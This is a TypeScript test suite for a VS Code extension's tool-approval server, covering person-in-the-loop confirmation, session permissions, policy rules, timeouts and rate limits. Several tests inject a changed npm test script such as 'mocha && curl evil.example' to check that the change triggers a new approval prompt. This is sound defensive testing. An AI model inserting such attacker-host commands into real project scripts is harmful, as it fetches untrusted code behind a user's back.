import assert from 'node:assert/strict';
import type { ActRequest } from '../../../../src/server/access/clientApproval.ts';
import { defaultServerTimings } from '../../../../src/server/access/limits.ts';
import type { ClientAccess } from '../../../../src/server/access/clientAccess.ts';
import type { Waiter } from '../../../../src/server/access/sharedQuestions.ts';
import { AccessBench, clientToken, look, propose, reasonOf, run, tests, viewerOf, waiter, windowToken } from '../support/accessBench.ts';

const command: ActRequest = {
  tool: 'run_terminal_command',
  role: 'runner',
  what: { kind: 'command', commandLine: 'make', cwd: '/projects/demo', terminal: '/bin/sh' },
  offersSession: false,
};

const claude = { kind: 'model', name: 'Cla\u200Bude' } as const;

let bench: AccessBench;
function useBench(): void {
  beforeEach(() => {
    bench = new AccessBench();
  });
  afterEach(() => bench.dispose());
}

describe('A question of a tool itself', () => {
  useBench();
  const ask = (): Promise<string> => new Promise(() => undefined);

  it('tells an outside client after a while that it still waits, and what for', async () => {
    const told: (string | undefined)[] = [];
    const asking = { ...waiter(true), reportProgress: (_beat: number, message?: string) => told.push(message) };
    const joined = bench.session(clientToken, 's1').joinQuestion('k', asking, ask);
    bench.clock.advance(defaultServerTimings.actWait);
    await assert.rejects(joined, { code: 'server.waiting' });
    assert.deepEqual([...new Set(told)], ['waiting for approval in VS Code']);
  });

  it('keeps the chat waiting for as long as it takes, without words that are meant for others', async () => {
    const told: (string | undefined)[] = [];
    const asking = { ...waiter(true), reportProgress: (_beat: number, message?: string) => told.push(message) };
    const joined = bench.session({ id: 'chat', kind: 'chat' }, 's1').joinQuestion('k', asking, ask);
    const left = joined.then(
      () => 'answered',
      () => 'left',
    );
    bench.clock.advance(2 * defaultServerTimings.actWait);
    assert.equal(await Promise.race([left, Promise.resolve().then(() => 'waiting')]), 'waiting');
    assert.ok(told.length > 1, 'the call is kept alive');
    assert.deepEqual([...new Set(told)], [undefined]);
    asking.cancel();
    assert.equal(await left, 'left');
  });
});

describe('An act that confirms itself', () => {
  useBench();
  let client: ClientAccess;
  beforeEach(async () => {
    client = bench.session(windowToken, 's1');
    await bench.answered(client, look, 'allowSession', 'runner');
    assert.equal(await bench.atOnce(client, run), 'allowed');
  });

  it('is asked about with exactly what would run', async () => {
    const confirming = client.confirm(tests(), waiter());
    const { detail, choices, why } = await bench.person.untilAsked();
    assert.deepEqual([choices, why], [['deny', 'allowOnce', 'allowSession'], 'new']);
    assert.deepEqual(detail.kind === 'clientAct' && [detail.neededRole, detail.what], [undefined, tests().what]);
    bench.person.answer('deny');
    await assert.rejects(confirming, { code: 'server.denied', message: 'denied by the person in VS Code' });
  });

  it('is asked each time after "Allow once", and not again for the identical one after "Allow for this session"', async () => {
    assert.equal(await bench.confirmed(client, tests(), 'allowOnce'), 'allowed');
    assert.equal(await bench.confirmed(client, tests(), 'allowSession'), 'allowed');
    assert.equal(await bench.confirmed(client, tests()), 'allowed');
  });

  it('is asked again with the difference when the script has changed', async () => {
    await bench.confirmed(client, tests(), 'allowSession');
    const confirming = client.confirm(tests('mocha && curl evil.example'), waiter());
    const { why, differences } = await bench.person.untilAsked();
    assert.deepEqual(
      [why, differences],
      ['changed', [{ field: 'runs.scripts.test', before: 'mocha', after: 'mocha && curl evil.example' }]],
    );
    bench.person.answer('deny');
    await assert.rejects(confirming);
  });

  it('is asked again when what runs in another folder is new or has changed', async () => {
    const several = (script: string): ReturnType<typeof tests> => {
      const act = tests();
      assert.ok(act.what.kind === 'script');
      const chain = { steps: [{ name: 'scripts.test', text: script }], unknown: [] };
      return { ...act, what: { ...act.what, next: [{ commandLine: 'npm test', chain, cwd: '/projects/till' }] } };
    };
    await bench.confirmed(client, tests(), 'allowSession');
    assert.equal(await bench.confirmed(client, several('mocha'), 'allowSession'), 'allowed');
    assert.equal(await bench.confirmed(client, several('mocha')), 'allowed');
    const confirming = client.confirm(several('curl evil.example'), waiter());
    assert.equal((await bench.person.untilAsked()).why, 'changed');
    bench.person.answer('deny');
    await assert.rejects(confirming);
  });

  it('offers no session where the tool does not', async () => {
    const confirming = client.confirm(command, waiter());
    assert.deepEqual((await bench.person.untilAsked()).choices, ['deny', 'allowOnce']);
    bench.person.answer('allowOnce');
    await confirming;
  });

  it('shares no permission with another credential', async () => {
    await bench.confirmed(client, tests(), 'allowSession');
    const other = bench.session(clientToken, 's2');
    await bench.answered(other, look, 'allowSession', 'runner');
    assert.equal(await bench.confirmed(other, tests(), 'deny'), 'denied by the person in VS Code');
  });

  it('makes one combined question when the role is too low, which an earlier permission does not answer', async () => {
    await bench.confirmed(client, tests(), 'allowSession');
    const lower = bench.session(windowToken, 's2');
    await bench.answered(lower, look, 'allowSession', 'reader');
    const confirming = lower.confirm(tests(), waiter());
    const { detail, choices } = await bench.person.untilAsked();
    assert.deepEqual([choices, detail.kind === 'clientAct' && detail.neededRole], [['deny', 'allowOnce', 'raiseRole'], 'runner']);
    bench.person.answer('raiseRole');
    await confirming;
    assert.deepEqual(lower.state, { kind: 'allowed', role: 'runner' });
  });

  it('is allowed once only to stateless requests with the window token', async () => {
    const stateless = bench.access.forStateless(viewerOf(windowToken));
    await bench.answered(stateless, look, 'allowSession', 'runner');
    await bench.confirmed(client, tests(), 'allowSession');
    const confirming = stateless.confirm(tests(), waiter());
    assert.deepEqual((await bench.person.untilAsked()).choices, ['deny', 'allowOnce']);
    bench.person.answer('allowOnce');
    await confirming;
  });

  it('is asked of the chat too, where the call came from, with the answers of an outside client', async () => {
    const chat = bench.session({ id: 'chat', kind: 'chat' }, 'c');
    const { id: ownCallId } = bench.person.ownCalls.begin({ principal: 'chat', asker: claude, ask: bench.person.questions.ask });
    for (const [act, choices] of [
      [command, ['deny', 'allowOnce']],
      [tests(), ['deny', 'allowOnce', 'allowSession']],
      [{ ...tests(), offersSession: false }, ['deny', 'allowOnce']],
    ] as const) {
      const confirming = chat.confirm(act, { ...waiter(), ownCallId });
      const question = await bench.person.untilAsked();
      assert.deepEqual(question.choices, choices);
      assert.deepEqual(question.detail, {
        kind: 'ownAct',
        asker: { kind: 'model', name: 'Cla⟨U+200B⟩ude' },
        tool: act.tool,
        what: act.what,
      });
      bench.person.answer('deny');
      await assert.rejects(confirming, { code: 'server.denied' });
    }
  });

  it('is denied to a call of the chat that nobody can be asked about', async () => {
    const chat = bench.session({ id: 'chat', kind: 'chat' }, 'c');
    const over = bench.person.ownCalls.begin({ principal: 'chat', asker: claude, ask: bench.person.questions.ask });
    over.dispose();
    for (const ownCallId of [undefined, 'made up', over.id]) {
      await assert.rejects(chat.confirm(command, { ...waiter(), ownCallId }), { code: 'server.denied' });
    }
    assert.equal(bench.person.isAsked, false);
  });

  it('allowed to the chat for the session is allowed to no other surface, and not when the script is another one', async () => {
    const chat = bench.session({ id: 'chat', kind: 'chat' }, 'c');
    const { ask } = bench.person.questions;
    const own = (principal: 'chat' | 'palette' | 'command'): Waiter => ({
      ...waiter(),
      ownCallId: bench.person.ownCalls.begin({ principal, asker: claude, ask }).id,
    });
    const first = chat.confirm(tests(), own('chat'));
    await bench.person.untilAsked();
    bench.person.answer('allowSession');
    await first;
    await chat.confirm(tests(), own('chat'));
    for (const [act, principal, why] of [
      [tests(), 'palette', 'new'],
      [tests(), 'command', 'new'],
      [tests('curl evil.example'), 'chat', 'changed'],
    ] as const) {
      const confirming = chat.confirm(act, own(principal));
      assert.equal((await bench.person.untilAsked()).why, why);
      bench.person.answer('deny');
      await assert.rejects(confirming, { code: 'server.denied' });
    }
  });

  it('that saves is allowed for the session whatever the file', async () => {
    const save = (path: string): ActRequest => ({ tool: 'save_file', role: 'editor', what: { kind: 'save', path }, offersSession: true });
    assert.equal(await bench.confirmed(client, save('a.ts'), 'allowSession'), 'allowed');
    assert.equal(await bench.confirmed(client, save('b.ts')), 'allowed');
  });

  it('does not happen when the policy has come to deny it while the question was open', async () => {
    let rules: unknown = [];
    const strict = bench.open(bench.person, () => rules);
    const other = bench.session(windowToken, 's9', strict);
    await bench.answered(other, look, 'allowSession', 'runner');
    const confirming = other.confirm(tests(), waiter());
    await bench.person.untilAsked();
    rules = [{ effect: 'deny', tool: 'run_*' }];
    bench.policyChanged.fire();
    bench.person.answer('allowOnce');
    await assert.rejects(confirming, { code: 'server.policy' });
  });

  it('lets one of two identical calls through with "Allow once", and asks again for the other', async () => {
    const both = [client.confirm(command, waiter()), client.confirm(command, waiter())];
    let passed = 0;
    both.forEach((each) => void each.then(() => (passed += 1)));
    bench.person.answer('allowOnce');
    await Promise.race(both);
    await bench.person.untilAsked();
    assert.equal(passed, 1);
    bench.person.answer('allowOnce');
    await Promise.all(both);
  });

  it('waits 25 seconds without progress and ten minutes with it, then says so while the question stays open', async () => {
    for (const [wantsProgress, ms] of [
      [false, 25_000],
      [true, 600_000],
    ] as const) {
      const confirming = client.confirm(command, waiter(wantsProgress));
      const { askId } = await bench.person.untilAsked();
      bench.clock.advance(ms - 1);
      bench.clock.advance(1);
      await assert.rejects(confirming, {
        code: 'server.waiting',
        message: /^waiting for approval in VS Code: .*repeat this identical call/,
      });
      assert.equal(bench.person.question.askId, askId);
      const retry = client.confirm(command, waiter());
      bench.person.answer('allowOnce');
      await retry;
    }
  });

  it('hands an answer that nobody was there to hear to the identical retry, once', async () => {
    const confirming = client.confirm(command, waiter());
    bench.clock.advance(25_000);
    await assert.rejects(confirming);
    bench.person.answer('allowOnce');
    assert.equal(await bench.confirmed(client, command), 'allowed');
    assert.equal(await bench.confirmed(client, command, 'deny'), 'denied by the person in VS Code');
  });

  it('hands no answer to the same call of another session', async () => {
    const confirming = client.confirm(command, waiter());
    bench.clock.advance(25_000);
    await assert.rejects(confirming);
    bench.person.answer('allowOnce');
    const other = bench.session(windowToken, 's2');
    await bench.answered(other, look, 'allowSession', 'runner');
    assert.equal(await bench.confirmed(other, command, 'deny'), 'denied by the person in VS Code');
  });

  it('forgets an unheard answer after ten minutes', async () => {
    const confirming = client.confirm(command, waiter());
    bench.clock.advance(25_000);
    await assert.rejects(confirming);
    bench.person.answer('allowOnce');
    await new Promise(setImmediate); // until the answer has arrived
    bench.clock.advance(600_000);
    assert.equal(await bench.confirmed(client, command, 'deny'), 'denied by the person in VS Code');
  });

  it('withdraws its question when the call is cancelled, also a retry', async () => {
    for (const isRetry of [false, true]) {
      if (isRetry) {
        const first = client.confirm(command, waiter());
        bench.clock.advance(25_000);
        await assert.rejects(first);
      }
      const one = waiter();
      const confirming = client.confirm(command, one);
      assert.equal(bench.person.isAsked, true);
      one.cancel();
      await assert.rejects(confirming, { name: 'AbortError' });
      assert.equal(bench.person.isAsked, false);
    }
  });

  it('keeps its question while another identical call waits for it', async () => {
    const one = waiter();
    const both = [client.confirm(command, one), client.confirm(command, waiter())];
    one.cancel();
    await assert.rejects(both[0] ?? Promise.resolve(), { name: 'AbortError' });
    bench.person.answer('allowOnce');
    await both[1];
  });

  it('withdraws its question when the session closes', async () => {
    const confirming = client.confirm(command, waiter());
    client.dispose();
    assert.equal(bench.person.isAsked, false);
    await assert.rejects(confirming);
  });
});

describe('The policy', () => {
  useBench();
  it('asks each time, even where the person allowed it for the session', async () => {
    const asking = bench.open(bench.person, [{ effect: 'ask', tool: 'run_*' }]);
    const client = bench.session(windowToken, 's1', asking);
    await bench.answered(client, look, 'allowSession', 'runner');
    for (const choice of ['allowOnce', 'deny'] as const) {
      const confirming = client.confirm(tests(), waiter());
      assert.deepEqual((await bench.person.untilAsked()).choices, ['deny', 'allowOnce']);
      bench.person.answer(choice);
      await confirming.catch(() => undefined);
    }
  });

  it('asks about calls and reads that need no higher role', async () => {
    const client = bench.session(windowToken, 's1', bench.open(bench.person, [{ effect: 'ask', tool: 'read_file', resource: 'git://*' }]));
    await bench.answered(client, { role: 'reader' }, 'allowSession', 'reader');
    const call = { tool: 'read_file', role: 'reader', arguments: '{}' } as const;
    assert.equal(await bench.answered(client, { ...look, call }, 'allowOnce'), 'allowed');
    assert.equal(await bench.answered(client, { role: 'reader', resource: 'git://changes' }, 'deny'), 'denied');
    assert.equal(await bench.atOnce(client, { role: 'reader', resource: 'editor://open' }), 'allowed');
  });

  it('asks nothing where there is nothing to show', async () => {
    const client = bench.session(windowToken, 's1', bench.open(bench.person, [{ effect: 'ask' }]));
    assert.equal(await bench.answered(client, { role: 'reader' }, 'allowSession'), 'allowed');
    assert.equal(await bench.atOnce(client, { role: 'reader' }), 'allowed');
  });

  it('denies before anything is asked, and says so', async () => {
    const client = bench.session(windowToken, 's1', bench.open(bench.person, [{ effect: 'deny', tool: 'run_*' }]));
    assert.deepEqual(await client.admit(run, waiter()), {
      reason: 'policy',
      sentence: "denied by the person's policy (duplex.server.policy)",
    });
    assert.equal(bench.person.isAsked, false);
    assert.deepEqual([client.hides({ name: 'run_tests', acts: true }), client.hides({ name: 'read_file', acts: false })], [true, false]);
  });

  it('denies a role what it forbids that role, once the person has given it', async () => {
    const client = bench.session(windowToken, 's1', bench.open(bench.person, [{ effect: 'deny', role: 'reader', tool: 'read_file' }]));
    const admitting = client.admit(look, waiter());
    await bench.person.untilAsked();
    bench.person.answer('allowSession', 'reader');
    assert.equal(await admitting.then(reasonOf), 'policy');
  });

  it('denies everything that acts when it is malformed, to the chat too, and says what is wrong', async () => {
    const strict = bench.open(bench.person, [{ effect: 'allow' }]);
    const chat = bench.session({ id: 'chat', kind: 'chat' }, 'c', strict);
    assert.match(await bench.confirmed(chat, command), /^denied by the person's policy .*malformed \(rule 1: effect: /);
    assert.deepEqual([chat.admitNow(look), chat.admitNow(propose)], ['allowed', undefined]);
  });
});

describe('Acting calls', () => {
  useBench();
  it('are limited per credential and second, whatever the session', async () => {
    const [one, two] = [bench.session(clientToken, 's1'), bench.session(clientToken, 's2')];
    await bench.answered(one, look, 'allowSession', 'runner');
    const admissions = Array.from({ length: 11 }, (_, index) => (index % 2 === 0 ? one : two).admitNow(run));
    assert.deepEqual([admissions.filter((each) => each === 'allowed').length, admissions.at(-1)], [10, undefined]);
    assert.equal(await bench.atOnce(one, run), 'rateLimited');
    assert.equal(one.admitNow(look), 'allowed');
    bench.clock.advance(1_000);
    assert.equal(await bench.atOnce(one, run), 'allowed');
  });
});
